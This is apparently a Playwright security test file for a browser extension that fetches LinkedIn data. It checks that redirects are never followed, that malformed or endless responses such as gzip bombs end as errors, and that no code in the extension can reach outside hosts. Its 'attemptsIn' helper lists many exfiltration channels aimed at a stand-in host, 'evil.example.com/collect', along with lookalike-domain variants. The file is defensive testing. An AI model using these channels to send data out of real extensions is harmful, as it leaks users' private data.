/** Hostile responses of LinkedIn: redirects, endless and invalid bodies; and the browser's own protection behind ours. */
import { rm } from 'node:fs/promises';
import { expect, type Page, type Worker } from '@playwright/test';
import type { FaultKind } from '../../stand-ins/linkedin/faults/fault-book.ts';
import { askBackground } from '../../testing/bridge.fixture.ts';
import { launchBrowser } from '../browser.ts';
import { policyHeld } from '../strict-test.ts';
import { isThorough } from '../thorough.ts';
import { type Arena, appOrigin, backgroundOf, barePage, hostilePage, signIn, test } from './arena.ts';
import { report } from './attack-report.ts';
import { heapOfBackground } from './heap.ts';
import { buildWithoutPolicy } from './lone-walls.ts';
import { codeOf, exchange, exchangeAll, fetchData, message, profileAddress } from './messages.ts';
import { provePage } from './prove-page.ts';
import { redirects as allRedirects } from './redirects.ts';
import { refusedAddresses } from './refused-addresses.ts';

test('E10: no redirect is followed, wherever it leads', async ({ arena }) => {
  const page = await arena.openProved(barePage);
  const count = await expectNoRedirectFollowed(arena, page, arena.worker);
  report('E10', count, `${count} redirects: all reported as such, 0 followed, 0 at the hostile host`);
});

test('E07, E10: our own rules hold without the content security policy', async ({ arena }) => {
  const folder = await buildWithoutPolicy();
  const browser = await launchBrowser(arena.hostRules, appOrigin, [folder]);
  try {
    await signIn(browser.context, arena.session);
    const page = await browser.context.newPage();
    await page.goto(barePage);
    await provePage(page);
    const worker = await backgroundOf(browser.context);
    const count = await expectNoRedirectFollowed(arena, page, worker);
    arena.linkedIn.control.clear();
    const addresses = [...new Set(Object.values(refusedAddresses).flat())];
    const messages = addresses.map((url) => fetchData(url));
    const codes = [...(await exchangeAll(page, messages)), ...(await askBackground(page, messages))].map(codeOf);
    expect(codes.filter((code) => code !== 'url_not_allowed' && code !== 'bad_request')).toEqual([]);
    expect(arena.linkedIn.control.requests()).toEqual([]);
    expect(arena.arrivals()).toEqual([]);
    // The policy is really gone here, and the ways out that are tried below do lead out.
    await worker.evaluate(`(${attemptsIn})(['https://evil.example.com/collect'], false)`);
    expect(arena.arrivals().length).toBeGreaterThanOrEqual(5);
    report('E10, our rules alone', count, `${count} redirects without a policy: 0 followed, 0 at the hostile host`);
    report('E07, our rules alone', addresses.length, `${addresses.length} addresses without a policy: 0 fetched`);
  } finally {
    await browser.close();
    await rm(folder, { recursive: true, force: true });
  }
});

test('E10: when every address redirects, the member counts as signed out and LinkedIn receives no more requests', async ({
  arena,
}) => {
  const page = await arena.openProved(barePage);
  arena.linkedIn.control.fault({ kind: 'other-host-redirect' });
  const ask = () => exchange(page, [fetchData(profileAddress(arena.identity))]);
  expect((await ask()).map(codeOf)).toEqual(['signed_out']);
  const requests = arena.linkedIn.control.requestCount();
  for (let repeated = 0; repeated < 5; repeated += 1) expect((await ask()).map(codeOf)).toEqual(['signed_out']);
  expect(arena.linkedIn.control.requestCount()).toBe(requests);
  expect(arena.arrivals()).toEqual([]);
});

test('E11: endless, broken and hostile answers end as errors, and the worker stays small and responsive', async ({ arena }) => {
  const page = await arena.openProved(barePage);
  // Time limits are the browser's own clock: shortened here, and what was asked for is kept.
  await arena.worker.evaluate(`{
    const timeout = AbortSignal.timeout.bind(AbortSignal);
    globalThis.__limits = [];
    AbortSignal.timeout = (limit) => { globalThis.__limits.push(limit); return timeout(Math.min(limit, 2_000)); };
    globalThis.__restore = () => { AbortSignal.timeout = timeout; };
  }`);
  const cases: readonly (readonly [FaultKind, string, { readonly size?: number; readonly times?: number }?])[] = [
    ['huge', 'too_large'],
    ['endless', 'too_large'],
    ['gzip-bomb', 'too_large'],
    ['drip', 'timeout'],
    ['slow', 'timeout'],
    ['wrong-content-type', 'not_json'],
    ['invalid-utf8', 'not_json'],
    ['truncated-json', 'not_json'],
    ['deep-json', 'not_json'],
    ['deep-json', 'not_json', { size: 201 }],
    ['reset', 'offline'],
    ['reset-midway', 'timeout'],
    ['server-error', 'upstream_error'],
    ['bad-gateway', 'upstream_error'],
  ];
  const before = await heapOfBackground(arena.context, arena.extensionId);
  for (const [kind, expected, more] of cases) {
    const lift = arena.linkedIn.control.fault({ kind, match: 'profile', ...more });
    // A message that needs nothing of LinkedIn is answered while the answer is still coming.
    const [reply, awake] = await Promise.all([
      exchange(page, [fetchData(profileAddress(arena.identity))]),
      exchange(page, [message('checkExtension', {})], 4_000),
    ]);
    lift();
    expect(`${kind}: ${codeOf(reply[0])}`).toBe(`${kind}: ${expected}`);
    expect(codeOf(awake[0]), kind).toBe('ok');
  }
  const growth = (await heapOfBackground(arena.context, arena.extensionId)) - before;
  expect(growth).toBeLessThan(64 * 1024 * 1024);
  const limits = await arena.worker.evaluate<number[]>('globalThis.__limits');
  expect(limits).toHaveLength(cases.length);
  expect(Math.max(...limits)).toBeLessThanOrEqual(30_000);
  await arena.worker.evaluate('globalThis.__restore()');
  expect((await exchange(page, [fetchData(profileAddress(arena.identity))])).map(codeOf)).toEqual(['ok']);
  report(
    'E11',
    cases.length,
    `${cases.length} hostile answers: ${cases.length} errors, worker answered beside each, heap grew ${(growth / 1024 ** 2).toFixed(1)} MiB`,
  );
});

test('the policy alone: no code inside the extension can reach another host', async ({ arena, expectComplaints }) => {
  expectComplaints(policyHeld);
  const elsewhere = [
    'https://evil.example.com/collect',
    'http://evil.example.com/collect',
    `${arena.hostile.httpOrigin}/collect`,
    `${arena.hostile.httpsOrigin}/collect`,
    'https://www.linkedin.com.evil.example.com/collect',
    'https://www.linkedin.com:8443/collect',
    'http://www.linkedin.com/collect',
    'https://linkedin.com/collect',
    'https://api.linkedin.com/collect',
    'https://media.licdn.com/collect',
    `${appOrigin}/api/v1/collect`,
  ];
  const redirecting = ['https://evil.example.com/collect', 'http://www.linkedin.com/collect', `${appOrigin}/api/v1/collect`];
  // Proof that the host is there to be reached: from its own page it is.
  const outside = await arena.open(hostilePage);
  await outside.evaluate(() => fetch('https://evil.example.com/collect', { method: 'POST', body: 'control' }).then(() => null));
  expect(arena.arrivals()).toHaveLength(1);
  arena.hostile.clear();
  arena.frontDoor.clear();

  const worker = await arena.worker.evaluate<string[]>(`(${attemptsIn})(${JSON.stringify(elsewhere)}, false)`);
  const popup = await arena.open(`chrome-extension://${arena.extensionId}/src/popup/popup.html`);
  const document = await popup.evaluate<string[]>(`(${attemptsIn})(${JSON.stringify(elsewhere)}, true)`);
  for (const location of redirecting) arena.linkedIn.control.fault({ kind: 'other-host-redirect', location, times: 1 });
  const followed = await arena.worker.evaluate<string[]>(
    `Promise.all(${JSON.stringify(redirecting)}.map(() => fetch('https://www.linkedin.com/voyager/api/me').then(() => 'went out', () => 'refused')))`,
  );
  const outcomes = [...worker, ...document, ...followed];
  expect(outcomes.filter((outcome) => outcome.includes('went out'))).toEqual([]);
  expect(outcomes.length).toBeGreaterThan(elsewhere.length * 10);
  expect(arena.arrivals()).toEqual([]);
  expect(arena.frontDoor.received()).toEqual([]);
  expect(arena.linkedIn.control.requests().filter(({ path }) => path.endsWith('/collect'))).toEqual([]);
  report('Policy alone', outcomes.length, `${outcomes.length} ways out of the worker and the popup: 0 arrived anywhere`);
});

/** Each n-th redirect is answered; one function refuses all of them. */
const EVERY = 3;

/** One after another, because the first of them stops everything: what it stored is taken away before the next. */
async function expectNoRedirectFollowed(arena: Arena, page: Page, worker: Worker): Promise<number> {
  const codes: string[] = [];
  const redirects = allRedirects.filter((_, place) => isThorough() || place % EVERY === 0);
  arena.linkedIn.control.clear();
  for (const [index, { status, location }] of redirects.entries()) {
    const identity = `redirected-${index}`;
    arena.linkedIn.control.fault({
      kind: 'other-host-redirect',
      match: new RegExp(`memberIdentity=${identity}(?:&|$)`),
      status,
      location,
    });
    await worker.evaluate("chrome.storage.local.remove('coolDown')");
    codes.push(...(await exchange(page, [fetchData(profileAddress(identity))])).map(codeOf));
  }
  expect(redirects.filter((_, index) => codes[index] !== 'redirected')).toEqual([]);
  // The address itself, then one look at whether the session still holds; nothing else.
  const asked = arena.fetched().map((address) => (address === '/voyager/api/me?' ? 'me' : /redirected-\d+/.exec(address)?.[0]));
  expect(asked.toSorted()).toEqual(
    [...redirects.map((_, index) => `redirected-${index}`), ...redirects.map(() => 'me')].toSorted(),
  );
  // With the pause in place nothing is asked at all.
  expect((await exchange(page, [fetchData(profileAddress(arena.identity))])).map(codeOf)).toEqual(['redirected']);
  expect(arena.linkedIn.control.requestCount()).toBe(redirects.length * 2);
  expect(arena.arrivals()).toEqual([]);
  await worker.evaluate("chrome.storage.local.remove('coolDown')");
  return redirects.length;
}

/** Runs inside the extension, as text: every way to reach an address that code there has. */
const attemptsIn = `async (addresses, isDocument) => {
  const attempt = (way) => Promise.race([
    Promise.resolve().then(way).then((outcome) => outcome ?? 'went out', () => 'refused'),
    new Promise((resolve) => setTimeout(resolve, 2_000, 'nothing happened')),
  ]);
  const element = (name, attributes, property) => () => new Promise((resolve, reject) => {
    const made = Object.assign(document.createElement(name), attributes);
    made.onload = () => resolve(made.tagName === 'IFRAME' ? 'an error page' : 'went out');
    made.onerror = reject;
    document.body.append(made);
  });
  const socket = (Kind, url, ...more) => new Promise((resolve, reject) => {
    const made = new Kind(url, ...more);
    made.onopen = () => resolve('went out');
    made.onerror = reject;
  });
  const outcomes = addresses.flatMap((url) => [
    ...['cors', 'no-cors'].flatMap((mode) => ['GET', 'POST'].map((method) => () => fetch(url, { mode, method, credentials: 'include' }).then(() => 'went out'))),
    () => fetch(new Request(url, { redirect: 'manual' })).then(() => 'went out'),
    () => fetch(url, { keepalive: true }).then(() => 'went out'),
    () => caches.open('x').then((cache) => cache.add(url)).then(() => 'went out'),
    () => import(url).then(() => 'went out'),
    () => socket(WebSocket, url.replace('http', 'ws')),
    () => socket(EventSource, url),
    () => new WebTransport(url).ready.then(() => 'went out'),
    ...(isDocument ? [
      () => new Promise((resolve, reject) => {
        const call = new XMLHttpRequest();
        call.onload = () => resolve('went out');
        call.onerror = reject;
        call.open('POST', url);
        call.send('x');
      }),
      element('img', { src: url }),
      element('script', { src: url }),
      element('link', { rel: 'stylesheet', href: url }),
      element('link', { rel: 'prefetch', href: url }),
      element('iframe', { src: url }),
      element('object', { data: url }),
      element('video', { src: url }),
      () => { navigator.sendBeacon(url, 'x'); return 'queued'; },
      () => { const form = Object.assign(document.createElement('form'), { action: url, method: 'post' }); document.body.append(form); form.submit(); return 'submitted'; },
    ] : []),
  ]);
  return Promise.all(outcomes.map(attempt));
}`;
